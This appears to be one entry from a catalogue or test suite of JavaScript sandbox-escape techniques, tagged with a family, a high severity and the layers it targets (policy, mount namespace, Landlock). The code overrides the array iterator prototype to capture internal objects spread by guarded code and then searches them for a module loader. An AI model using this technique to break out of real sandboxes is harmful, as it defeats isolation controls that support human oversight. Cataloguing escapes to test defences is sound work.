// technique: the iterator of arrays sees what the guard spreads
// family: B
// severity: H
// layers: policy, mount_namespace, landlock
const real = Array.prototype[Symbol.iterator];
readHost(() => {
  const seen = [process];
  Array.prototype[Symbol.iterator] = function () { seen.push(this, ...Object.values(this)); return Reflect.apply(real, this, []); };
  try { process.on('x', () => {}); process.emit('x', 1); require('util').format('%s', 1); } catch { /* it may mind */ } finally { Array.prototype[Symbol.iterator] = real; }
  for (const one of seen) if (one && (one.mainModule || one.getBuiltinModule)) return loaderOf(one);
  throw new Error('nothing of use was spread');
});
